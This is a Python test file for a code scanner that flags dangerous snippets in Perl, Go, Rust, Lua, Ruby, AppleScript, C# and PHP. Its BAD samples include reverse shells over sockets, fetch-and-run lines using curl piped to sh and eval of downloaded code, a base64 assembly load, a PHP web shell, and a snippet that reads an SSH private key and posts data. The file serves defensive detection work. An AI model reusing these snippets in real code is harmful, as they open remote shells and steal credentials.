"""Programs of other languages."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from whet.guard.code import checker as code
from whet.guard.finding import Seen

BAD = {
    "perl over a socket": (
        'use Socket; socket(S,PF_INET,SOCK_STREAM,0); open(STDIN,">&S"); exec("words");',
        {"shell-handed-over"},
    ),
    "go over a socket": (
        'c, _ := net.Dial("tcp", "203.0.113.9:1")\nx := exec.Command("/bin/sh")\nx.Stdin, x.Stdout = c, c',
        {"shell-handed-over"},
    ),
    "rust over a socket": (
        'let s = TcpStream::connect("203.0.113.9:1");\nCommand::new("/bin/sh").stdin(s)',
        {"shell-handed-over"},
    ),
    "lua loads": ('load(http.request("https://x.invalid/a.lua"))()', {"exec-fetched"}),
    "ruby loads": ('eval(URI.open("https://x.invalid/a.rb").read)', {"exec-fetched"}),
    "applescript fetches": (
        'do shell script "curl -s https://x.invalid/a | sh"',
        {"exec-fetched", "pipe-known"},
    ),
    "c# loads": ('Assembly.Load(Convert.FromBase64String("aGVsbG8="))', {"exec-decoded"}),
    "php obeys": ('<?php system($_GET["c"]); ?>', {"exec-fetched"}),
}
GOOD = {
    "ruby server": 'server = TCPServer.new(4000)\nloop { client = server.accept; client.puts "hi" }',
    "go command": 'out, _ := exec.Command("git", "status").Output()\nresp, _ := http.Get("https://x.invalid")',
    "php decode": '<?php $data = base64_decode($_POST["image"]); file_put_contents("a.png", $data);',
    "applescript": 'do shell script "ls -l"\ndisplay dialog "Done" buttons {"OK"}',
    "rust": 'let out = Command::new("cargo").arg("build").output();\nlet s = TcpStream::connect("127.0.0.1:80");',
    "java": 'new ProcessBuilder("git", "log").start();',
}


@pytest.mark.parametrize("name", BAD)
def test_dangers_are_found(name: str) -> None:
    text, wanted = BAD[name]
    assert {hit.rule for hit in code.check(text).hits} == wanted


@pytest.mark.parametrize("name", GOOD)
def test_ordinary_programs_are_left_alone(name: str) -> None:
    assert code.check(GOOD[name]).hits == ()


def test_reading_a_key_and_sending_are_facts() -> None:
    text = 'key = File.read("#{Dir.home}/.ssh/id_rsa")\nputs 1\nNet::HTTP.post(uri, body)\n'
    assert {(fact.kind, fact.line) for fact in code.check(text).facts} == {("source", 1), ("sink", 3)}


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=300))
def test_no_text_raises(text: str) -> None:
    assert isinstance(code.check("eval TCPSocket.new socket exec " + text), Seen)
